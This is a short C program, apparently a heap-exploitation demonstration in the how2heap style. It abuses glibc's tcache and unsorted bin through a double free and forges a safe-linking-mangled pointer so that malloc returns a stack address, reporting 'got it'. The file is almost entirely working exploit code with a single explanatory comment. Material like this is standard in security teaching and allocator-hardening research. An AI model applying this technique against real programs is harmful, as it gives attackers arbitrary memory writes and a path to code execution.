/* A block is in the unsorted list inside a larger chunk and in the tcache. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <assert.h>
int main(void) {
    setbuf(stdin, NULL);
    setbuf(stdout, NULL);
    intptr_t stack_var[4];
    intptr_t *x[7];
    for (int i = 0; i < (int)(sizeof(x) / sizeof(intptr_t *)); i++) x[i] = malloc(0x100);
    intptr_t *prev = malloc(0x100);
    intptr_t *a = malloc(0x100);
    malloc(0x10);
    for (int i = 0; i < 7; i++) free(x[i]);
    free(a);
    free(prev);
    malloc(0x100);
    free(a);
    intptr_t *b = malloc(0x120);
    b[0x120 / 8 - 2] = (long)stack_var ^ ((long)a >> 12);
    malloc(0x100);
    intptr_t *c = malloc(0x100);
    assert(c == stack_var);
    printf("got it\n");
    return 0;
}
